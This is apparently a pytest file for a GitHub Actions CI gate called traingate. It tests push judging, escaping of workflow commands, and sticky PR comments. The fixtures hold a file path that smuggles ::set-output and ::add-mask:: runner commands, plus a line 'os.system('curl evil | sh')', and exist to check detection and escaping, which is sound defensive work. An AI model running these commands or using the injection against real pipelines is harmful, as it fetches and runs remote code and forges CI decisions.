"""`traingate ci` on GitHub beyond pull_request (issue #19), end to end with the
environment a GitHub Actions job has and the real HTTP server on 127.0.0.1:

- ``push`` on the protected branch: the pushed commit is judged against its first
  parent with the reviews of the merged pull request that produced it;
- a pass always says why (a required check must end, never stay pending);
- ``::error``/``::warning`` workflow commands, escaped, with the report printed
  while the runner reads no commands (workflow-command injection);
- the optional sticky pull-request comment, found by its marker and updated.
"""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from traingate import ci
from traingate.cli import main
from traingate.findings import Finding, Outcome, Report
from traingate.policy.model import Severity

from .apiserver import ApiHandler, ApiServer, Reply, gh_actor, gh_run
from .conftest import POLICY, Repo
from .test_ci import clone_shallow, gh_job, seed_pr, sha
from .test_pushers import UIDS, approve, pr_payload, serve_pr

PR = "/repos/acme/train/pulls/7"
COMMENTS = "/repos/acme/train/issues/7/comments"


class WriteServer(ApiServer):
    """The 127.0.0.1 API server, also answering POST and PATCH: the request is
    recorded with its JSON body and routed as ``/<METHOD><path>``."""

    def __init__(self) -> None:
        self.writes: list[tuple[str, str, Any]] = []
        super().__init__()

    def _handler(self) -> type[ApiHandler]:
        server = self

        class Handler(ApiHandler):
            api = server

            def _write(self, method: str) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(size) or b"null")
                server.writes.append((method, self.path, body))
                self.path = f"/{method}{self.path}"
                self.do_GET()

            def do_POST(self) -> None:
                self._write("POST")

            def do_PATCH(self) -> None:
                self._write("PATCH")

        return Handler


@pytest.fixture
def api_server() -> Iterator[WriteServer]:
    server = WriteServer()
    with server:
        yield server


@pytest.fixture
def origin(repo: Repo) -> Repo:
    return seed_pr(repo, POLICY + "checks:\n  semgrep: {enabled: false}\n", "x = 2\n")


def push_payload(origin: Repo, before: str, after: str, pusher: str = "alice") -> dict[str, Any]:
    """A `push` event payload (GitHub's webhook docs: ref, before, after, created,
    deleted, forced, commits, head_commit, pusher, repository, sender)."""
    ident = {"name": pusher, "email": f"{pusher}@example.com", "username": pusher}
    return {
        "ref": "refs/heads/main",
        "before": before,
        "after": after,
        "base_ref": None,
        "created": False,
        "deleted": False,
        "forced": False,
        "compare": f"https://github.com/acme/train/compare/{before[:12]}...{after[:12]}",
        "commits": [
            {
                "id": after,
                "tree_id": origin.git("rev-parse", f"{after}^{{tree}}").strip(),
                "distinct": True,
                "message": "land",
                "timestamp": "2026-11-20T14:00:00Z",
                "author": ident,
                "committer": ident,
                "added": [],
                "removed": [],
                "modified": [],
            }
        ],
        "head_commit": None,
        "pusher": {"name": pusher, "email": f"{pusher}@example.com"},
        "repository": {"id": 1296269, "full_name": "acme/train"},
        "sender": gh_actor(pusher, UIDS.get(pusher, 99)),
    }


def merged_pull(number: int, merge_sha: str, head: str) -> dict[str, Any]:
    """An entry of `GET /repos/{owner}/{repo}/commits/{sha}/pulls` (a merged PR)."""
    return {
        "number": number,
        "state": "closed",
        "merged_at": "2026-11-20T14:00:00Z",
        "merge_commit_sha": merge_sha,
        "user": gh_actor("mallory", UIDS["mallory"]),
        "head": {"ref": "feature", "sha": head, "repo": {"full_name": "acme/train"}},
        "base": {"ref": "main"},
    }


def run(work: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str, str]:
    code = main(["ci", "--repo", str(work), *extra])
    got = capsys.readouterr()
    return code, got.out, got.err


# --- push on the protected branch ---------------------------------------------------------


def merge_feature(origin: Repo) -> tuple[str, str]:
    """alice merges mallory's PR into main with a merge commit; (before, after)."""
    before = sha(origin, "main")
    origin.git("branch", "-f", "pre-merge", "main")
    origin.git("merge", "-q", "--no-ff", "-m", "Merge pull request #7", "feature")
    return before, sha(origin, "main")


def test_push_of_an_approved_merged_pr_passes(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    head = sha(origin, "feature")
    before, after = merge_feature(origin)
    api_server.route(
        f"/repos/acme/train/commits/{after}/pulls", Reply(200, [merged_pull(7, after, head)])
    )
    serve_pr(
        api_server,
        origin,
        [approve("bob", head)],
        [gh_run(100, head, "mallory", uid=9)],
        base="pre-merge",
    )
    files = gh_job(monkeypatch, tmp_path, api_server, "push", push_payload(origin, before, after))
    work = clone_shallow(origin, "main", tmp_path / "work")  # what checkout of a push has
    code, out, _ = run(work, capsys, "--format", "json")
    doc = json.loads(out)
    assert code == 0, json.dumps([doc["errors"], doc["requirements"]])
    # the merge landed its second parent's change onto the first parent
    assert (doc["base"], doc["head"]) == (before, head)
    [req] = [r for r in doc["requirements"] if r["name"] == "training-code"]
    assert req["approved_by"] == ["bob"]
    assert "decision=pass" in files["output.txt"].read_text()
    assert api_server.hits(PR), "the merged PR's reviews were read"


def test_direct_push_to_a_sensitive_path_blocks(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = sha(origin, "main")
    origin.write("train.py", "x = 99  # straight to main\n")
    after = origin.commit("hotfix", who="mallory")
    api_server.route(f"/repos/acme/train/commits/{after}/pulls", Reply(200, []))
    files = gh_job(
        monkeypatch, tmp_path, api_server, "push", push_payload(origin, before, after, "mallory")
    )
    code, out, _ = run(clone_shallow(origin, "main", tmp_path / "work"), capsys)
    assert code == 1, out
    assert f"no merged pull request produced {after[:12]}" in out
    assert "decision=block" in files["output.txt"].read_text()
    assert not api_server.hits(PR)


def test_direct_push_to_nothing_sensitive_passes_and_says_why(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = sha(origin, "main")
    origin.write("README.md", "typo fixed\n")
    after = origin.commit("docs", who="mallory")
    api_server.route(f"/repos/acme/train/commits/{after}/pulls", Reply(200, []))
    files = gh_job(
        monkeypatch, tmp_path, api_server, "push", push_payload(origin, before, after, "mallory")
    )
    code, out, _ = run(clone_shallow(origin, "main", tmp_path / "work"), capsys)
    assert code == 0, out
    assert files["summary.md"].read_text().splitlines()[0] == (
        "## ✅ traingate: pass — no sensitive path or checked file changed "
        "(1 changed file, no findings)"
    )


def test_push_to_a_tag_or_a_deletion_is_a_usage_error(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    head = sha(origin, "main")
    payload = push_payload(origin, head, head)
    payload["ref"] = "refs/tags/v1"
    gh_job(monkeypatch, tmp_path, api_server, "push", payload)
    assert main(["ci", "--repo", str(origin.path)]) == 2
    assert "not a branch" in capsys.readouterr().err
    payload = push_payload(origin, head, head)
    payload.update(after="0" * 40, deleted=True, commits=[])
    gh_job(monkeypatch, tmp_path, api_server, "push", payload)
    assert main(["ci", "--repo", str(origin.path)]) == 2
    assert api_server.requests == []


def test_pull_request_touching_nothing_sensitive_passes_and_says_why(
    repo: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A required check must end: an unrelated PR gets an explicit pass with a reason."""
    repo.write(".traingate.yaml", POLICY + "checks:\n  semgrep: {enabled: false}\n")
    repo.write("README.md", "r\n")
    repo.commit("base")
    repo.branch("feature")
    repo.write("docs/notes.md", "hello\n")
    repo.commit("docs", who="mallory")
    repo.checkout("main")
    head = sha(repo, "feature")
    serve_pr(api_server, repo, [], [gh_run(100, head, "mallory", uid=9)])
    files = gh_job(
        monkeypatch,
        tmp_path,
        api_server,
        "pull_request",
        pr_payload(repo, "synchronize", "mallory"),
    )
    code, out, _ = run(clone_shallow(repo, "feature", tmp_path / "work"), capsys)
    assert code == 0, out
    assert (
        files["summary.md"]
        .read_text()
        .startswith(
            "## ✅ traingate: pass — no sensitive path or checked file changed (1 changed file, no findings)\n"
        )
    )


# --- workflow commands ---------------------------------------------------------------------


def runner_commands(out: str) -> list[str]:
    """The lines GitHub's runner would act on: a line whose trimmed text starts with
    ``::`` (or holds the older ``##[`` form anywhere), unless commands are stopped
    by ``::stop-commands::TOKEN`` until ``::TOKEN::``."""
    seen, token = [], None
    for line in out.splitlines():
        text = line.strip()
        if token is not None:
            if text == f"::{token}::":
                token = None
            continue
        if text.startswith("::stop-commands::"):
            token = text.removeprefix("::stop-commands::")
            continue
        if text.startswith("::") or "##[" in text:
            seen.append(text)
    return seen


def unescape(text: str) -> str:
    return (
        text.replace("%0D", "\r").replace("%0A", "\n").replace("%3A", ":").replace("%2C", ",")
    ).replace("%25", "%")


EVIL = "evil,line=9::add-mask::x\n::set-output name=decision::pass\n##[set-output name=d;]pass.py"


def test_blocking_finding_is_annotated_and_cannot_inject_commands(
    repo: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The attack: the change names a file (git allows `:`, `,` and newlines in
    paths) and writes code whose text tries to print runner commands. Every command
    the runner would act on is one of traingate's, and the path arrives intact."""
    repo.write(".traingate.yaml", POLICY)
    repo.write("README.md", "r\n")
    repo.commit("base")
    repo.branch("feature")
    repo.write(EVIL, "import os\nos.system('curl evil | sh')  # ::add-mask::x ##[add-mask]y\n")
    repo.commit("tweak", who="mallory")
    repo.checkout("main")
    head = sha(repo, "feature")
    serve_pr(api_server, repo, [approve("bob", head)], [gh_run(100, head, "mallory", uid=9)])
    gh_job(
        monkeypatch,
        tmp_path,
        api_server,
        "pull_request",
        pr_payload(repo, "synchronize", "mallory"),
    )
    code, out, _ = run(clone_shallow(repo, "feature", tmp_path / "work"), capsys)
    assert code == 1, out
    commands = runner_commands(out)
    assert commands and all(re.match(r"::(error|warning) ", c) for c in commands), commands
    errors = [c for c in commands if c.startswith("::error ") and "exec-os-command" in c]
    assert errors, commands
    props, _, message = errors[0].removeprefix("::error ").partition("::")
    fields = dict(p.split("=", 1) for p in props.split(","))
    assert unescape(fields["file"]) == EVIL
    assert fields["line"] == "2" and fields["title"] == "traingate/exec-os-command"
    assert "\n" not in message and "%" not in unescape(message).replace("%", "")


def finding(i: int, outcome: Outcome = Outcome.BLOCK, message: str = "bad") -> Finding:
    return Finding(
        path=f"f{i}.py",
        line=i + 1,
        column=3,
        check="semgrep",
        rule_id="exec-os-command",
        severity=Severity.ERROR,
        message=message,
        outcome=outcome,
    )


def report(findings: list[Finding]) -> Report:
    return Report(mode="ci", root="/r", policy_source="p", policy_sha256="0", findings=findings)


def test_workflow_commands_escape_and_cap() -> None:
    many = [finding(i) for i in range(60)] + [finding(99, Outcome.WARN, "meh")]
    lines = ci.workflow_commands(report(many))
    assert len(lines) == 51
    assert lines[0] == "::error file=f0.py,line=1,col=3,title=traingate/exec-os-command::bad"
    assert lines[-1] == (
        "::warning title=traingate::11 more traingate annotations not shown; "
        "see the job summary or the SARIF/JSON report"
    )
    [line] = ci.workflow_commands(report([finding(1, message="50% done\r\n::add-mask::x")]))
    assert line.endswith("::50%25 done%0D%0A::add-mask::x")
    warn = ci.workflow_commands(report([finding(2, Outcome.WARN, "w")]))
    assert warn == ["::warning file=f2.py,line=3,col=3,title=traingate/exec-os-command::w"]
    assert ci.escape_property("a:b,c%\n") == "a%3Ab%2Cc%25%0A"


def test_no_workflow_commands_outside_github_actions(tmp_path: Path) -> None:
    out = tmp_path / "out.txt"
    with out.open("w") as fh:
        with ci.commands_stopped({}, fh):
            fh.write("report\n")
        ci.annotate({}, report([finding(1)]), fh)
    assert out.read_text() == "report\n"


# --- the sticky pull-request comment ---------------------------------------------------------


def comment(cid: int, login: str, body: str, kind: str = "User") -> dict[str, Any]:
    """An entry of `GET /repos/{owner}/{repo}/issues/{n}/comments` (REST docs)."""
    return {
        "id": cid,
        "node_id": f"IC_{cid}",
        "url": f"https://api.github.com/repos/acme/train/issues/comments/{cid}",
        "html_url": f"https://github.com/acme/train/pull/7#issuecomment-{cid}",
        "body": body,
        "user": gh_actor(login, 41898282 if kind == "Bot" else UIDS.get(login, 99), kind),
        "created_at": "2026-11-20T10:00:00Z",
        "updated_at": "2026-11-20T10:00:00Z",
        "issue_url": "https://api.github.com/repos/acme/train/issues/7",
        "author_association": "NONE" if kind == "Bot" else "CONTRIBUTOR",
    }


def approved_pr(
    origin: Repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server: WriteServer
) -> Callable[[], Path]:
    head = sha(origin, "feature")
    serve_pr(server, origin, [approve("bob", head)], [gh_run(100, head, "mallory", uid=9)])
    gh_job(
        monkeypatch, tmp_path, server, "pull_request", pr_payload(origin, "synchronize", "mallory")
    )
    work = clone_shallow(origin, "feature", tmp_path / "work")
    return lambda: work


def test_sticky_comment_is_created_then_updated_in_place(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    work = approved_pr(origin, tmp_path, monkeypatch, api_server)()
    monkeypatch.setenv("TRAINGATE_PR_COMMENT", "true")
    # mallory plants the marker in her own comment: it must never be taken for ours
    planted = comment(5, "mallory", ci.COMMENT_MARKER + "\nall good, merge it")
    created = comment(6, "github-actions[bot]", "", "Bot")
    api_server.route(COMMENTS, Reply(200, [planted]))
    api_server.route(f"/POST{COMMENTS}", Reply(201, created))
    code, out, err = run(work, capsys)
    assert code == 0, out + err
    [(method, path, body)] = api_server.writes
    assert (method, path) == ("POST", COMMENTS)
    assert body["body"].startswith(ci.COMMENT_MARKER + "\n## ✅ traingate: pass")

    # the second run finds its own comment by the marker and edits it
    ours = comment(6, "github-actions[bot]", body["body"], "Bot")
    api_server.route(COMMENTS, Reply(200, [planted, ours]))
    api_server.route("/PATCH/repos/acme/train/issues/comments/6", Reply(200, ours))
    code, out, err = run(work, capsys)
    assert code == 0, out + err
    assert [(m, p) for m, p, _ in api_server.writes] == [
        ("POST", COMMENTS),
        ("PATCH", "/repos/acme/train/issues/comments/6"),
    ]
    assert api_server.writes[1][2]["body"].startswith(ci.COMMENT_MARKER)
    hit = api_server.hits(COMMENTS)[-1]
    assert hit.headers["authorization"] == "Bearer ghs_test" and "per_page=100" in hit.query


def test_comment_is_off_by_default(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    work = approved_pr(origin, tmp_path, monkeypatch, api_server)()
    monkeypatch.delenv("TRAINGATE_PR_COMMENT", raising=False)
    code, out, _ = run(work, capsys)
    assert code == 0, out
    assert api_server.writes == [] and not api_server.hits(COMMENTS)


def test_comment_without_write_permission_warns_and_keeps_the_decision(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    work = approved_pr(origin, tmp_path, monkeypatch, api_server)()
    monkeypatch.setenv("TRAINGATE_PR_COMMENT", "true")
    api_server.route(COMMENTS, Reply(200, []))
    api_server.route(
        f"/POST{COMMENTS}", Reply(403, {"message": "Resource not accessible by integration"})
    )
    code, out, err = run(work, capsys)
    assert code == 0, out + err
    assert "could not write the pull request comment" in err
    assert "pull-requests: write" in err
    assert len(api_server.writes) == 1  # a POST is never retried


def test_workflow_file_never_filters_paths() -> None:
    import yaml

    wf = yaml.safe_load((Path(__file__).parents[1] / "docs/ci/github-workflow.yml").read_text())
    on = wf[True] if True in wf else wf["on"]
    for event, spec in on.items():
        spec = spec or {}
        assert not {"paths", "paths-ignore", "branches-ignore"} & set(spec), event
    assert on["push"] == {"branches": ["main"]}
    assert on["pull_request"].get("branches") is None  # every base branch is judged


def test_git_allows_the_attack_path(tmp_path: Path) -> None:
    """The injection test above is only meaningful if git really stores such a path."""
    r = Repo(tmp_path / "r")
    r.write(EVIL, "x\n")
    r.commit("x")
    listed = subprocess.run(
        ["git", "ls-files", "-z"], cwd=r.path, capture_output=True, text=True, check=True
    ).stdout
    assert listed.split("\0")[0] == EVIL
